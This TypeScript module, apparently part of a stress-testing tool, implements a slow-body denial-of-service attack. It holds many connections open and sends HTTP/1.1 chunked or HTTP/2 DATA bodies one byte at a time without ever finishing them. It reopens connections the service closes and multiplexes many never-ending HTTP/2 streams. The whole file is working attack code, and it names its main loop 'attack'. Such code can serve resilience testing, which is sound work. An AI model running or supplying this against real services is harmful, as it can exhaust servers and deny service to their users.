/**
 * Requests whose bodies come in pieces of one byte and never end.
 *
 * @module
 */
import { setMaxListeners } from 'node:events'
import type { Duplex } from 'node:stream'
import type { Target } from '../target.ts'
import {
  DATA,
  END_HEADERS,
  frame,
  HEADERS,
  startTls,
  PREFACE,
  requestHead,
  SETTINGS,
  STREAM_ID_AT,
} from './http2-frames.ts'
import { openConnection, pause } from './raw-connection.ts'

export interface SmallPieces {
  readonly connections: number
  /** HTTP/2 over TLS, or HTTP/1.1. */
  readonly protocol: 'h2' | 'http/1.1'
  readonly method?: string
  readonly path?: string
  readonly headers?: Readonly<Record<string, string>>
  /** Bytes per second of one connection; those that the service closes are opened again. */
  readonly bytesPerSec: number
  /** Called with the number of connections opened so far. */
  readonly onOpened?: (opened: number) => void
  /** Requests of a connection of HTTP/2 at once. */
  readonly streams?: number
}

const FRAMES_PER_BLOCK = 256
const BLOCKS_PER_STREAM = 16
const CHUNKS = Buffer.from('1\r\na\r\n'.repeat(256))
const PATH = '/video/none/playlist.m3u8'
const TURN_MS = 20

/** Ends on the signal. @returns the number of connections opened, and bytes sent */
export async function sendSmallPieces(
  target: Target,
  signal: AbortSignal,
  options: SmallPieces,
): Promise<{ readonly opened: number; readonly sentBytes: number }> {
  setMaxListeners(0, signal)
  const total = { opened: 0, sentBytes: 0 }
  const attack = async () => {
    while (!signal.aborted) {
      const socket = await open(target, signal, options)
      if (socket === undefined) {
        await pause(100, signal)
        continue
      }
      total.opened++
      options.onOpened?.(total.opened)
      const sentBytes = await feed(socket, signal, options)
      total.sentBytes += sentBytes
      socket.destroy()
    }
  }
  await Promise.all(Array.from({ length: options.connections }, attack))
  return total
}

async function open(
  target: Target,
  signal: AbortSignal,
  { protocol }: SmallPieces,
): Promise<Duplex | undefined> {
  const connection = await openConnection(target.httpPort, target.host, signal)
  return protocol === 'h2' && connection !== undefined ? startTls(connection) : connection
}

/** @returns bytes sent until the signal aborts or the service closes the connection */
async function feed(socket: Duplex, signal: AbortSignal, options: SmallPieces): Promise<number> {
  const { bytesPerSec, protocol } = options
  socket.resume()
  const blocks = protocol === 'h2' ? http2Blocks(options) : http1Blocks(options)
  let [sentBytes, dueBytes, lastMs] = [0, 0, performance.now()]
  while (!signal.aborted && socket.writable) {
    const nowMs = performance.now()
    // What a busy attacker has not sent in time is not sent later.
    dueBytes += (Math.min(nowMs - lastMs, 2 * TURN_MS) / 1000) * bytesPerSec
    lastMs = nowMs
    while (dueBytes > 0 && socket.writableLength < bytesPerSec) {
      const block = blocks.next().value
      socket.write(block)
      sentBytes += block.length
      dueBytes -= block.length
    }
    await pause(TURN_MS, signal)
  }
  return sentBytes
}

function* http1Blocks({
  method = 'GET',
  path = PATH,
  headers = {},
}: SmallPieces): Generator<Buffer, never> {
  const fields = { host: 'a', 'transfer-encoding': 'chunked', ...headers }
  const lines = Object.entries(fields).map(([name, value]) => `${name}: ${value}\r\n`)
  yield Buffer.from(`${method} ${path} HTTP/1.1\r\n${lines.join('')}\r\n`)
  for (;;) yield CHUNKS
}

/** Each block brings a byte of one request after the other; the first ones begin a request, later every sixteenth. */
function* http2Blocks({
  method = 'GET',
  path = PATH,
  headers = {},
  streams = 100,
}: SmallPieces): Generator<Buffer, never> {
  const payload = requestHead({ method, path, headers })
  const piece = frame(DATA, { payload: Buffer.from('a') })
  const pieces = Buffer.concat(Array.from({ length: FRAMES_PER_BLOCK }, () => piece))
  yield Buffer.concat([PREFACE, frame(SETTINGS)])
  for (let [last, blocks] = [-1, 0]; ; blocks++) {
    const begins = blocks < streams || blocks % BLOCKS_PER_STREAM === 0
    if (begins) last += 2
    const open = Math.min(streams, (last + 1) / 2)
    for (let at = 0; at < FRAMES_PER_BLOCK; at++) {
      pieces.writeUInt32BE(last - 2 * (at % open), at * piece.length + STREAM_ID_AT)
    }
    yield begins
      ? Buffer.concat([frame(HEADERS, { flags: END_HEADERS, stream: last, payload }), pieces])
      : Buffer.from(pieces)
  }
}
